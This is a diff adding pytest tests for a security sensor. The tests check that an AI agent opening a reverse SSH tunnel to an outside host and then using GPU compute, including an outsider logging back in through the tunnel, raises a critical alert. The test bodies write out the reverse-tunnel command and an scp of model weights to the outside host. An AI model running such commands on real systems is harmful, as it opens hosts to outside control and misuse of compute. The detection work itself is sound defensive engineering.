@@ -1,0 +1,196 @@
+"""The ROME chain with real OpenSSH in network namespaces, seen by the real probe.
+
+An "agent" on gpuhost opens a reverse tunnel to the outside (ssh -fNR), then GPU compute is
+acquired in the same scope: by the agent's own process tree (lineage), or by a shell that an
+outside user opened back through the tunnel (tunnel taint: outside the agent's tree). The
+same captures, analysed offline, raise the same critical alert with its chain. Negatives:
+ssh -L, scp, and a training job's GPU compute outside any tunnel scope stay silent.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from collections.abc import Iterable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sensor import events as ev
+from sensor.aggregator.aggregator import Aggregator
+from sensor.aggregator.facts import TunnelFact
+from sensor.capture import FrameWriter, StreamMeta
+from sensor.fakegpu.session import fake_driver
+from sensor.probe.probe import Probe
+from sensor.probe.program import ProbeConfig
+from sensor.rules.alert import Alert
+from sensor.rules.loader import load_rules
+from tests.kernel.conftest import Collector
+from tests.scenario.conftest import OUTSIDE_IP, SSH, Network
+from tests.waiting import wait_until
+
+ROOT = Path(__file__).resolve().parents[2]
+FIXTURES = ROOT / "tests" / "fixtures" / "gpu"
+PYTHON = sys.executable
+
+
+class Recorder:
+    """The probe, feeding a live aggregator (built-in rules) and a capture file at once."""
+
+    def __init__(self, capture: Path) -> None:
+        self.capture = capture
+        self.live = Collector(Aggregator(rules=load_rules([])))
+        self._file = capture.open("wb")
+        self._writer = FrameWriter(self._file, StreamMeta(config=ProbeConfig().to_dict()))
+        self.probe = Probe(ProbeConfig(), self)
+
+    def write_payloads(self, payloads: Iterable[bytes]) -> None:
+        batch = list(payloads)
+        self.live.write_payloads(batch)
+        self._writer.write_payloads(batch)
+
+    def alerts(self, rule_id: str | None = None) -> list[Alert]:
+        with self.live.lock:
+            return [a for o in self.live.observations for a in o.alerts if rule_id in (None, a.rule_id)]
+
+    def facts(self, kind: type[Any]) -> list[Any]:
+        with self.live.lock:
+            return [f for o in self.live.observations for f in o.facts if isinstance(f, kind)]
+
+    def stop(self) -> None:
+        self.probe.stop()
+        self._file.close()
+
+
+@pytest.fixture
+def recorder(network: Network, tmp_path: Path) -> Iterator[Recorder]:
+    rec = Recorder(tmp_path / "rome.gscap")
+    rec.probe.start()
+    try:
+        yield rec
+    finally:
+        if rec.probe.bpf is not None:
+            rec.stop()
+
+
+@pytest.fixture
+def hopper(root: None) -> Iterator[Path]:
+    """The fake driver, mounted before the network's sshds start: each runs in a mount
+    namespace of its own (ip netns exec), copied from the host's when it starts."""
+    with fake_driver("hopper") as driver_dir:
+        yield driver_dir
+
+
+@pytest.fixture
+def ampere(root: None) -> Iterator[Path]:
+    with fake_driver("ampere") as driver_dir:
+        yield driver_dir
+
+
+def replay_command(driver_dir: Path, fixture: str) -> str:
+    """A shell command that replays a fixture's CUDA ioctls on the fake Hopper."""
+    return (f"{PYTHON} -m sensor.fakegpu.isolate {driver_dir} -- {PYTHON} -m sensor.fakegpu.client "
+            f"{FIXTURES / fixture}")
+
+
+def analyze(capture: Path) -> str:
+    result = subprocess.run([PYTHON, "-m", "sensor", "analyze", str(capture)], capture_output=True, text=True,
+                            cwd=ROOT, timeout=120)
+    assert result.returncode == 0, result.stderr
+    return result.stdout
+
+
+def test_reverse_tunnel_then_gpu_compute_in_the_agents_tree(hopper: Path, network: Network,
+                                                            recorder: Recorder) -> None:
+    ssh = " ".join([SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}"])
+    agent = f"cd {ROOT} && {ssh} && {replay_command(hopper, 'hopper-bringup.yaml')}"
+    done = network.gpuhost.run("sh", "-c", agent)
+    assert done.returncode == 0, done.stderr
+
+    # the real ssh -R is classified as a reverse tunnel with its exact forward
+    tunnel = wait_until(lambda: [t for t in recorder.facts(TunnelFact) if t.remote_host == OUTSIDE_IP],
+                        what="the tunnel fact")[0]
+    assert (tunnel.tool, tunnel.reverse, tunnel.directions, tunnel.remote_user, tunnel.forwards) == (
+        "ssh", True, ("reverse",), "root", ("reverse 9000 -> localhost:22",))
+
+    # classified with gpuhost's own routing table (its namespace): out through the gateway
+    from sensor.aggregator.facts import ConnectFact, EgressFact
+
+    ssh_connect = wait_until(lambda: [c for c in recorder.facts(ConnectFact) if c.address == OUTSIDE_IP],
+                             what="ssh's connect")[0]
+    assert (ssh_connect.port, ssh_connect.destination, ssh_connect.allowed) == (22, "egress", False)
+    assert [e for e in recorder.facts(EgressFact) if e.address == OUTSIDE_IP and e.port == 22] != []
+
+    alert = wait_until(lambda: recorder.alerts("reverse-tunnel-then-gpu-compute"), what="the critical alert")[0]
+    assert (alert.severity, alert.scope) == ("critical", "lineage")
+    assert [s.fact for s in alert.steps] == ["tunnel", "gpu_compute"]
+    assert alert.steps[1].fields["klass"] == 0xCBC0 and alert.steps[1].fields["architecture"] == "Hopper"
+    tunnel_proc = next(p for p in alert.processes if p.exec_id == alert.steps[0].exec_id)
+    assert tunnel_proc.exe == SSH and "-fNR" in tunnel_proc.argv
+    compute_proc = next(p for p in alert.processes if p.exec_id == alert.steps[1].exec_id)
+    assert "sensor.fakegpu.client" in compute_proc.argv
+    assert Path(str(compute_proc.ancestors[0]["exe"])).name == "sh"  # the agent's shell
+    assert recorder.alerts("reverse-tunnel-opened") != []
+
+    recorder.stop()
+    report = analyze(recorder.capture)
+    assert "ALERT CRITICAL reverse-tunnel-then-gpu-compute: Reverse tunnel followed by GPU compute" in report
+    assert "    1. " in report and "tunnel       pid=" in report and "gpu_compute  pid=" in report
+    assert "ssh tunnel (reverse) to 198.51.100.1: reverse 9000 -> localhost:22" in report
+    assert "GPU compute class 0xcbc0 (Hopper) on GPU 0" in report
+
+
+def test_gpu_compute_from_a_login_through_the_tunnel(hopper: Path, network: Network, recorder: Recorder) -> None:
+    """The outside logs back in through the tunnel (ssh -p 9000 localhost on the outside host);
+    gpuhost's sshd serves that connection in a new process tree, which the taint follows."""
+    tunnel = network.gpuhost.run(SSH, *network.ssh_options, "-fNR", "9000:localhost:22", f"root@{OUTSIDE_IP}")
+    assert tunnel.returncode == 0, tunnel.stderr
+    back_in = network.outside.run(SSH, *network.ssh_options, "-p", "9000", "root@127.0.0.1",
+                                  f"cd {ROOT} && {replay_command(hopper, 'compute-loop.yaml')}")
+    assert back_in.returncode == 0, back_in.stderr
+
+    alert = wait_until(lambda: recorder.alerts("reverse-tunnel-then-gpu-compute"), what="the critical alert")[0]
+    assert alert.scope == "tunnel"
+    compute_proc = next(p for p in alert.processes if p.exec_id == alert.steps[1].exec_id)
+    tunnel_proc = next(p for p in alert.processes if p.exec_id == alert.steps[0].exec_id)
+    assert alert.scope_key in compute_proc.tunnel_scopes
+    # the login came in through sshd: not a descendant of the tunnel's process
+    assert tunnel_proc.exec_id not in [a["exec_id"] for a in compute_proc.ancestors]
+    assert any(str(a["exe"]).endswith("sshd") for a in compute_proc.ancestors)
+    assert recorder.alerts("gpu-compute-in-tunnel-scope") != []
+    taint = recorder.live.aggregator.detector.taint.stats  # type: ignore[union-attr]
+    assert taint.matched >= 1 and taint.handed_over >= 1
+
+    recorder.stop()
+    report = analyze(recorder.capture)
+    assert "ALERT CRITICAL reverse-tunnel-then-gpu-compute" in report and "[scope tunnel: tunnel:" in report
+
+
+def test_local_forward_scp_and_training_compute_stay_silent(hopper: Path, ampere: Path, network: Network,
+                                                          recorder: Recorder, tmp_path: Path) -> None:
+    ssh_l = " ".join([SSH, *network.ssh_options, "-fNL", "18080:localhost:22", f"root@{OUTSIDE_IP}"])
+    agent = f"cd {ROOT} && {ssh_l} && {replay_command(hopper, 'hopper-bringup.yaml')}"
+    assert network.gpuhost.run("sh", "-c", agent).returncode == 0
+    payload = tmp_path / "weights.bin"
+    payload.write_bytes(b"\0" * 4096)
+    scp = network.gpuhost.run("scp", *network.ssh_options, str(payload), f"root@{OUTSIDE_IP}:/tmp/gs-weights.bin")
+    assert scp.returncode == 0, scp.stderr
+    training = network.gpuhost.run("sh", "-c", f"cd {ROOT} && {replay_command(ampere, 'training-job.yaml')}")
+    assert training.returncode == 0, training.stderr
+
+    # the local forward is seen, as a local tunnel, and the compute as compute ...
+    wait_until(lambda: [t for t in recorder.facts(TunnelFact) if "local" in t.directions], what="the -L tunnel")
+    from sensor.aggregator.facts import GpuCompute
+
+    wait_until(lambda: len(recorder.facts(GpuCompute)) >= 3, what="three compute facts")
+    # ... and nothing about tunnels or mining is raised
+    raised = {a.rule_id for a in recorder.alerts()}
+    assert raised & {"reverse-tunnel-opened", "reverse-tunnel-then-gpu-compute", "gpu-compute-in-tunnel-scope",
+                     "miner-pool-connection", "known-miner-binary"} == set()
+    assert [t for t in recorder.facts(TunnelFact) if t.reverse] == []
+    # scp ran ssh (in SFTP mode): an exec the sensor saw, and not a tunnel
+    scp_ssh = [e for e in recorder.live.events(ev.Exec) if isinstance(e, ev.Exec) and e.filename == SSH.encode()
+               and b"sftp" in e.argv]
+    assert scp_ssh != []
+    assert all(t.process != e.tgid for t in recorder.facts(TunnelFact) for e in scp_ssh)
